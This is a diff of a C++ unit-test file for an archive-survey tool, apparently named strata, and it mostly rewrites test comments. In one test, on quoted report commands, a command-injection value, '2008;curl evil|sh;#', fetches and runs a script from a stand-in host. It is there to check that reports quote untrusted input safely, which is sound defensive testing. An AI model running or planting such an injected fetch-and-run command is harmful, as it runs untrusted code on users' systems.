@@ -1,4 +1,5 @@
-// Surveys from end to end: planted differences are counted, however the work is divided, stopped or repeated.
+// Runs surveys end to end. The survey counts the differences that the pages contain, however the work is divided,
+// stopped or repeated.
 
 #include <boost/test/unit_test.hpp>
 
@@ -29,14 +30,14 @@ namespace {
 using namespace strata::testing;
 
 struct survey_fixture : program_fixture {
-    /// The result of a survey of the drafts 2008 and modern, as JSON.
+    /// Surveys the drafts 2008 and modern. Returns the result as JSON.
     [[nodiscard]] std::string survey(std::vector<std::string> arguments) const {
         arguments.insert(arguments.begin(), {"survey", "--drafts=2008,modern", "--format=json"});
         const outcome o = strata(arguments);
         BOOST_TEST((o.status == 0 || (o.status == 2 && contains(o.err, "broken or damaged"))), o.err);
         return o.out;
     }
-    /// Starts a survey with a journal, and kills it after this many milliseconds.
+    /// Starts a survey with a journal, and kills it after `milliseconds`.
     void kill_after(int milliseconds, const std::string& archive, const std::string& journal) const {
         const std::string out = folder.path("killed");
         const pid_t child = fork();
@@ -68,7 +69,7 @@ std::uint64_t number_in(const std::string& file, const char* sql) {
     return number;
 }
 
-// How many pages the tests use; the environment may set more.
+// Returns the number of pages for the tests. The environment variable STRATA_SURVEY_PAGES may set another number.
 std::uint64_t pages_wanted() {
     const char* const given = std::getenv("STRATA_SURVEY_PAGES");  // NOLINT(concurrency-mt-unsafe)
     return given == nullptr ? 3000 : std::strtoull(given, nullptr, 10);
@@ -127,9 +128,9 @@ BOOST_AUTO_TEST_CASE(merged_results_are_the_result_of_one_run) {
     };
     BOOST_TEST(merged({of_a, of_bc}) == all);
     BOOST_TEST(merged({of_bc, of_a}) == all);
-    BOOST_TEST(merged({of_bc, of_ab}) == all);  // b is in both
+    BOOST_TEST(merged({of_bc, of_ab}) == all);  // both results have b
     BOOST_TEST(merged({of_bc, of_ab, of_a, of_bc}) == all);
-    // The same pages under another name are the same input.
+    // The pages have another file name, but the input is the same.
     const std::string copy = folder.write("z.warc.gz", crawl_of(0, 300).archive);
     BOOST_TEST(merged({of_bc, of_a, folder.write("z.json", survey({copy}))}) == all);
     const std::string other =
@@ -148,7 +149,8 @@ BOOST_AUTO_TEST_CASE(a_run_that_is_killed_at_any_point_goes_on_where_it_was) {
     std::mt19937 random(20081224);
     for (int i = 0; i < 20; ++i) kill_after(static_cast<int>(random() % 60), archive, journal);
     BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);
-    BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);  // nothing is left to do
+    BOOST_TEST(survey({"--journal=" + journal, archive}) == whole);  // the journal has everything, so nothing is left
+                                                                     // to do
 }
 
 BOOST_AUTO_TEST_CASE(a_journal_cut_anywhere_is_gone_on_with) {
@@ -187,7 +189,7 @@ BOOST_AUTO_TEST_CASE(rows_are_a_database_with_a_row_for_each_page) {
                crawl.slashes);
     BOOST_TEST(number_in(rows, "SELECT count(*) FROM skipped WHERE reason = 'status'") == crawl.missing);
     check_refused_with(strata({"survey", "--rows=" + rows, archive}), "exists already");
-    // Only the file itself is written, whatever its name means elsewhere.
+    // The survey writes only the file that the option names, and leaves a file with a similar name alone.
     (void)folder.write("mine.part", "mine");
     (void)survey({"--rows=" + folder.path("mine"), archive});
     BOOST_TEST(folder.read("mine.part") == "mine");
@@ -209,19 +211,19 @@ BOOST_AUTO_TEST_CASE(an_example_shows_what_the_drafts_make_of_it_only_if_its_exc
         strata({"survey", "--drafts=2008,modern", "--format=html", "--playground=play.html", page}).out;
     BOOST_TEST(report.find("How each draft reads this excerpt by itself") != std::string::npos);
     BOOST_TEST(report.find("Switch to the self-closing start tag state.") != std::string::npos);
-    // "<br/>", packed.
+    // "s0kq0rcDAA" is the packed form of "<br/>".
     BOOST_TEST(report.find("play.html#v=1&amp;d=2008,modern&amp;i=s0kq0rcDAA\"") != std::string::npos);
     const std::string merged = strata({"survey", "merge", "--format=html", folder.write("a.json", survey({page}))}).out;
     BOOST_TEST(merged.find("How each draft reads this excerpt by itself") != std::string::npos);
     BOOST_TEST(merged.find("play.html") == std::string::npos);
-    // If a result names a file as a draft, the file is not read.
+    // If a result names a file as a draft, strata does not read the file.
     std::string named = survey({page});
     for (std::size_t at = 0; (at = named.find("\"2008\"", at)) != std::string::npos;) named.replace(at, 6, "\"@-\"");
     named.replace(named.find("--drafts=2008"), 13, "--drafts=@-");
     const outcome of_file = strata({"survey", "merge", "--format=html", folder.write("b.json", named)}, "<p>");
     BOOST_TEST(of_file.status == 0, of_file.err);
     BOOST_TEST(!contains(of_file.out, "How each draft reads this excerpt by itself"));
-    // The place continues beyond the part that is kept.
+    // The place is longer than the part of a page that the survey keeps.
     const std::string far = folder.write("far.html", "<a b" + std::string(400, 'x') + "/>");
     const std::string without = strata({"survey", "--drafts=2008,modern", "--format=html", far}).out;
     BOOST_TEST(without.find("self-closing-flag") != std::string::npos);
@@ -234,7 +236,7 @@ BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) 
     BOOST_TEST(contains(text, "strata compare '--drafts=2008,modern+fragment=svg desc' '"), text);
     BOOST_TEST(
         (contains(text, "it&#39;\\&#39;&#39;s $(a) page.html&#39;") || contains(text, "it'\\''s $(a) page.html'")));
-    // A result may be anybody's.
+    // A result may come from anybody, so commands in the report must be safe.
     std::string edited = survey({page});
     for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
         edited.replace(at, 4, "2008;curl evil|sh;#");
@@ -309,7 +311,7 @@ BOOST_AUTO_TEST_CASE(the_end_of_a_page_that_was_cut_short_makes_no_difference) {
         BOOST_TEST(cut.at("changes").size() == 1U);
         BOOST_TEST(!cut.at("errors").at("modern").contains("eof-in-tag"));
     }
-    // The archive itself ends early, in the middle of the page or of its chunks.
+    // The archive itself ends early, inside the page or inside a chunk.
     BOOST_TEST(found(record.substr(0, record.size() - 4)).at("places") == 2);
     BOOST_TEST(found(record.substr(0, record.size() - 6)).at("places") == 1);
 }
@@ -358,11 +360,11 @@ BOOST_AUTO_TEST_CASE(a_list_may_have_any_name_and_be_packed) {
             BOOST_TEST(found.at("places") == 1);
             BOOST_TEST(found.at("skipped").empty());
         }
-    // A record with the length 0 is an error.
+    // A record of length 0 is an error.
     const auto empty = strata::report::parsed_json(
         survey({"--archives=" + folder.path(""), folder.write("empty.csv", "crawl.warc.gz,0,0\n")}));
     BOOST_TEST(empty.at("skipped").at("broken coordinates") == 1);
-    // A damaged list says so.
+    // A message about a damaged list says that the list is damaged.
     std::string many;
     for (int i = 0; i < 20000; ++i) many += "crawl.warc.gz,0," + size + "\n";
     const std::string packed = deflated(many);
